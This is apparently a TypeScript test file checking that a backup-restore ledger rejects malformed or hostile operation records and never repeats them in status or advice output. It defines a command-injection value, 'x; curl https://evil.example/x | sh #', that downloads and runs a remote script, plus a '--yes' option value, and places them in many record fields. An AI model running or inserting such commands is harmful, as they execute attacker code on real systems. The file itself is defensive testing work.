import { describe, expect, it } from 'vitest';
import { adviseOn } from '../../../functions/restore/operation-advice.ts';
import { parseOperationRecord } from '../../../functions/restore/record/operation-record.ts';
import { addedBy } from '../../../functions/restore/source/prepare.ts';
import type { LedgerKind } from '../../../functions/runtime/names.ts';
import { statusOfOperation } from '../../../functions/status/operation-status.ts';
import type { LockReading } from '../../../functions/vault/storage/lock-reading.ts';
import { rejectionOf } from '../../rejection.ts';

const ID = '0d990263-018e-4e65-a703-eff731de951e';
const OTHER_ID = '1d990263-018e-4e65-a703-eff731de951e';
const RECORD = {
  operationId: ID,
  operation: 'restore',
  tenant: 'acme',
  phase: 'failed',
  phases: [
    { phase: 'locked', at: '2026-01-31T12:00:00.000Z' },
    { phase: 'importing', at: '2026-01-31T12:00:05.000Z', part: 'hub' },
    { phase: 'failed', at: '2026-01-31T12:00:09.000Z' },
  ],
  requestedBy: 'arn:aws:iam::111122223333:user/anna',
  requestId: 'request-1',
  request: { tenant: 'acme', mode: 'update' },
  parts: ['hub'],
  backup: {
    tenant: 'acme',
    tier: 'daily',
    versionId: 'f115d2bf-60b7-4f88-8143-16bc6ff23185',
    backupId: '20260131T020000Z-aabbccdd',
    storedAt: '2026-01-31T02:00:05.000Z',
  },
  safetyBackup: 'L4kqtJlcpXroDTDmpUMLUo',
  counts: { created: 1, updated: 2 },
  creates: ['/servers/main/clients/a'],
  outcome: 'unknown',
  error: { code: 'IMPORT_REFUSED', message: 'refused', facts: { tenant: 'acme', status: 422 } },
};

const COMMAND = 'x; curl https://evil.example/x | sh #';

/** Documents that somebody may put where a record should be. */
const HOSTILE: readonly [what: string, document: unknown][] = [
  ['no JSON', undefined],
  ['nothing', null],
  ['a list', [RECORD]],
  ['no members', {}],
  ['another tenant', { ...RECORD, tenant: 'globex' }],
  ['another operation', { ...RECORD, operationId: OTHER_ID }],
  ['no phases', { ...RECORD, phases: [] }],
  ['phases that are none', { ...RECORD, phases: 'locked' }],
  ['a phase that is none', { ...RECORD, phase: COMMAND }],
  ['a time that is none', { ...RECORD, phases: [{ phase: 'locked', at: COMMAND }] }],
  ['a safety backup that is a command', { ...RECORD, safetyBackup: COMMAND }],
  ['a safety backup that is an option', { ...RECORD, safetyBackup: '--yes' }],
  ['a backup that is a command', { ...RECORD, backup: { ...RECORD.backup, versionId: COMMAND } }],
  ['a backup of no tenant', { ...RECORD, backup: { ...RECORD.backup, tenant: COMMAND } }],
  ['a backup of no tier', { ...RECORD, backup: { ...RECORD.backup, tier: COMMAND } }],
  ['a backup of no id', { ...RECORD, backup: { ...RECORD.backup, backupId: COMMAND } }],
  ['parts that are none', { ...RECORD, parts: [COMMAND] }],
  ['an outcome that is none', { ...RECORD, outcome: COMMAND }],
  ['a request that is none', { ...RECORD, request: COMMAND }],
  ['an error that is none', { ...RECORD, error: { code: COMMAND, message: '', facts: {} } }],
  ['counts that are none', { ...RECORD, counts: { created: -1 } }],
  ['additions that are none', { ...RECORD, creates: { length: 1 } }],
];

const ledgerOf = (documents: Readonly<Record<string, unknown>>) => ({
  read: async (_kind: LedgerKind, _tenant: string, id: string) =>
    id in documents ? { document: documents[id], etag: '', digest: '', writtenAt: new Date(0) } : null,
  list: async () => Object.keys(documents).map((id) => ({ id, writtenAt: new Date(0) })),
});

const FREE: LockReading = { lock: null, passedOver: null };
const statusOf = (documents: Readonly<Record<string, unknown>>, reading = FREE, operationId?: string) =>
  statusOfOperation({ tenant: 'acme', operationId }, {
    ledger: ledgerOf(documents),
    tenantLocks: { read: async () => reading },
    now: () => new Date('2026-01-31T13:00:00Z'),
  } as never);

it('is read as it was written', () => {
  expect(parseOperationRecord(RECORD, 'acme', ID)).toEqual(RECORD);
});

describe('an entry of the ledger that is no record of the operation is passed over, and named:', () => {
  it.each(HOSTILE)('%s', async (_, document) => {
    expect(parseOperationRecord(document, 'acme', ID)).toBeNull();
    const key = `operations/acme/${ID}.json`;
    for (const asked of [ID, undefined]) {
      const error = await rejectionOf(statusOf({ [ID]: document }, FREE, asked));
      expect(error.code).toBe('OPERATION_NOT_FOUND');
      expect(error.message).toContain(key);
      expect(error.message).not.toContain('evil.example');
    }
    const next = { ...RECORD, operationId: OTHER_ID };
    expect(await statusOf({ [ID]: document, [OTHER_ID]: next })).toMatchObject({
      operationId: OTHER_ID,
      passedOver: [key],
    });
    const undone = await rejectionOf(addedBy('acme', ID, { ledger: ledgerOf({ [ID]: document }) as never }));
    expect(undone.code).toBe('OPERATION_NOT_FOUND');
  });
});

it('that a lock is none is named beside the operation, which nobody holds up', async () => {
  const reading = { lock: null, passedOver: 'locks/acme.json' };
  expect(await statusOf({ [ID]: RECORD }, reading)).toMatchObject({
    activity: 'ended',
    lockedBy: null,
    passedOver: ['locks/acme.json'],
  });
});

describe('advice repeats no request that is none:', () => {
  it.each<[string, object]>([
    ['a tenant that is a command', { tenant: COMMAND }],
    ['a target that is a command', { tenant: 'acme', into: COMMAND }],
    ['an unknown member', { tenant: 'acme', run: COMMAND }],
    ['an operation to undo that is a command', { tenant: 'acme', prune: { createdBy: COMMAND } }],
    ['a mode that is a command', { tenant: 'acme', mode: COMMAND }],
    ['what is sent that is a command', { tenant: 'acme', send: COMMAND }],
  ])('%s', (_, request) => {
    const record = parseOperationRecord({ ...RECORD, request }, 'acme', ID);
    expect(record).not.toBeNull();
    if (record === null) return;
    const { requests } = adviseOn(record, 'ended');
    expect(requests.again).toBeUndefined();
    expect(JSON.stringify(requests)).not.toContain('evil.example');
  });
});
